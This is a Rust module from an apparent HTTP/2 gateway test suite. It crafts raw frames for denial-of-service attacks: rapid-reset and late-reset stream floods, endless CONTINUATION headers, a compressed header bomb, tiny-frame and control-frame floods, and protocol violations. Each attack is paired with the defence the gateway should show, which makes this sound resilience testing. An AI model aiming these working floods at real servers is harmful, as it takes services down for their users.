//! What HTTP/2 lets a client do with frames.

use std::time::Duration;

use anyhow::{Result, ensure};

use super::{Attack, Attacker};
use crate::http2::{
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, Intruder, PING, PRIORITY, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, call, frame, header, message, remembered,
};
use crate::violations::{self, Ends};

const GET_ORDER: &str = "/millrace.order.v1.OrderService/GetOrder";
const WATCH_ORDER: &str = "/millrace.order.v1.OrderService/WatchOrder";

pub(super) const ATTACKS: &[Attack] = &[
    Attack {
        name: "rapid-reset",
        does: "calls are given up in the packet that begins them, 100,000 on a connection",
        holds: "the gateway closes the connection",
        attackers: 2,
        memory: 64,
        round: |attacker| Box::pin(rapid_reset(attacker)),
    },
    Attack {
        name: "late-reset",
        does: "watches are given up as soon as they are answered, so that no rule against rapid resets sees them",
        holds: "what they held is given back",
        attackers: 2,
        memory: 64,
        round: |attacker| Box::pin(late_reset(attacker)),
    },
    Attack {
        name: "continuation",
        does: "a head that never ends, in large frames and in empty ones",
        holds: "the gateway closes the connection",
        attackers: 2,
        memory: 64,
        round: |attacker| Box::pin(continuation(attacker)),
    },
    Attack {
        name: "huge-heads",
        does: "a head of 40 MB, packed into 10 kB",
        holds: "it is refused before it is unpacked",
        attackers: 2,
        memory: 64,
        round: |attacker| Box::pin(huge_heads(attacker)),
    },
    Attack {
        name: "tiny-frames",
        does: "a body byte for byte, with empty frames between",
        holds: "the gateway closes the connection, or takes no more",
        attackers: 2,
        memory: 64,
        round: |attacker| Box::pin(tiny_frames(attacker)),
    },
    Attack {
        name: "control-frames",
        does: "PING, SETTINGS, PRIORITY and WINDOW_UPDATE as fast as they are taken, and all answers read",
        holds: "others have their share of the gateway",
        attackers: 4,
        memory: 64,
        round: |attacker| Box::pin(control_frames(attacker, true)),
    },
    Attack {
        name: "deaf-pings",
        does: "the same, and no answer read",
        holds: "what nobody reads is not kept",
        attackers: 4,
        memory: 64,
        round: |attacker| Box::pin(control_frames(attacker, false)),
    },
    Attack {
        name: "violations",
        does: "every frame that breaks the protocol, one after the other",
        holds: "each ends its connection, or its call",
        attackers: 2,
        memory: 64,
        round: |attacker| Box::pin(break_rules(attacker)),
    },
];

async fn rapid_reset(attacker: &Attacker) -> Result<()> {
    let Some(mut intruder) = attacker.intrude().await else { return Ok(()) };
    let head = call(GET_ORDER);
    let give_up = |n: usize| {
        let begin = frame(HEADERS, END_HEADERS | END_STREAM, 2 * n + 1, &head);
        [begin, frame(RST_STREAM, 0, 2 * n + 1, &8_u32.to_be_bytes())].concat()
    };
    let batch = |n: usize| (1000 * n..1000 * (n + 1)).flat_map(give_up).collect();
    let closed = intruder.send_until_closed(100, batch).await;
    attacker.tally.add_requests(1000 * closed.unwrap_or(100));
    ensure!(closed.is_some(), "100,000 calls were given up at once, and the connection is still there");
    Ok(())
}

async fn late_reset(attacker: &Attacker) -> Result<()> {
    const AT_ONCE: usize = 50;
    let Some(mut intruder) = attacker.intrude().await else { return Ok(()) };
    let token = header("authorization", &format!("Bearer {}", attacker.account.access_token));
    let head = [call(WATCH_ORDER), token].concat();
    // The first field of the request: which order.
    let order = attacker.account.order_id.as_bytes();
    let body = message(&[&[0x0a, u8::try_from(order.len())?], order].concat());
    for round in 0..100 {
        let streams = || (AT_ONCE * round..AT_ONCE * (round + 1)).map(|n| 2 * n + 1);
        let watch = |id| [frame(HEADERS, END_HEADERS, id, &head), frame(DATA, END_STREAM, id, &body)].concat();
        attacker.tally.add_requests(AT_ONCE);
        let answered = intruder.send(&streams().flat_map(watch).collect::<Vec<_>>()).await
            && intruder.read_times(AT_ONCE, |frame| frame.kind == HEADERS).await;
        let reset = streams().flat_map(|id| frame(RST_STREAM, 0, id, &8_u32.to_be_bytes())).collect::<Vec<_>>();
        if !answered || !intruder.send(&reset).await {
            return Ok(());
        }
    }
    Ok(())
}

async fn continuation(attacker: &Attacker) -> Result<()> {
    for more in [header("x-more", &"x".repeat(16_000)), Vec::new()] {
        let Some(mut intruder) = attacker.intrude().await else { continue };
        attacker.tally.add_requests(1);
        let batch = frame(CONTINUATION, 0, 1, &more).repeat(if more.is_empty() { 1000 } else { 1 });
        let begun = intruder.send(&frame(HEADERS, END_STREAM, 1, &call(GET_ORDER))).await;
        let closed = !begun || intruder.send_until_closed(1000, |_| batch.clone()).await.is_some();
        ensure!(closed, "a head has no end, and the connection is still there");
    }
    Ok(())
}

async fn huge_heads(attacker: &Attacker) -> Result<()> {
    let Some(mut intruder) = attacker.intrude().await else { return Ok(()) };
    let bomb = [call(GET_ORDER), remembered("x-bomb", &"x".repeat(4000)), vec![0xbe; 10_000]].concat();
    for n in 0..100 {
        attacker.tally.add_requests(1);
        let packed = frame(HEADERS, END_HEADERS | END_STREAM, 2 * n + 1, &bomb);
        if !intruder.send(&packed).await || intruder.discard().is_none() {
            break;
        }
    }
    Ok(())
}

async fn tiny_frames(attacker: &Attacker) -> Result<()> {
    let Some(mut intruder) = attacker.intrude().await else { return Ok(()) };
    let token = header("authorization", &format!("Bearer {}", attacker.account.access_token));
    attacker.tally.add_requests(1);
    let head = frame(HEADERS, END_HEADERS, 1, &[call(GET_ORDER), token].concat());
    // A message that claims a length which never comes.
    let begun = intruder.send(&[head, frame(DATA, 0, 1, &[0, 0, 3, 0, 0])].concat()).await;
    let tiny = [frame(DATA, 0, 1, b"x"), frame(DATA, 0, 1, b"")].concat().repeat(500);
    let closed = !begun || intruder.send_until_closed(2000, |_| tiny.clone()).await.is_some();
    ensure!(closed, "a million tiny frames were taken, and the connection is still there");
    Ok(())
}

async fn control_frames(attacker: &Attacker, reads: bool) -> Result<()> {
    let Some(mut intruder) = attacker.intrude().await else { return Ok(()) };
    let several = [
        frame(PING, 0, 0, b"are you?"),
        frame(SETTINGS, 0, 0, b""),
        frame(PING, ACK, 0, b"I am it."),
        frame(PRIORITY, 0, 1, &[0, 0, 0, 3, 7]),
        frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()),
    ];
    let flood = several.concat().repeat(200);
    loop {
        let sent = if reads { intruder.send_and_discard(&flood).await } else { send_deaf(&mut intruder, &flood).await };
        attacker.tally.add_requests(1000);
        if !sent {
            return Ok(());
        }
    }
}

/// Who is not read is not sent to either; a gateway that waits for that need not close at once.
async fn send_deaf(intruder: &mut Intruder, flood: &[u8]) -> bool {
    tokio::time::timeout(Duration::from_secs(5), intruder.send(flood)).await.unwrap_or(false)
}

async fn break_rules(attacker: &Attacker) -> Result<()> {
    for violation in violations::all(GET_ORDER) {
        let Some(mut intruder) = attacker.intrude().await else { continue };
        attacker.tally.add_requests(1);
        let ended = !intruder.send(&violation.bytes).await || ends(&mut intruder, violation.ends).await;
        ensure!(ended, "{} ends neither its connection nor its call", violation.name);
    }
    Ok(())
}

/// Whether a violation had to be noticed.
pub(crate) async fn ends(intruder: &mut Intruder, ends: Ends) -> bool {
    match ends {
        Ends::Connection => intruder.is_closed().await,
        Ends::Call => intruder.read_times(1, crate::http2::Frame::ends_stream).await || intruder.is_closed().await,
    }
}
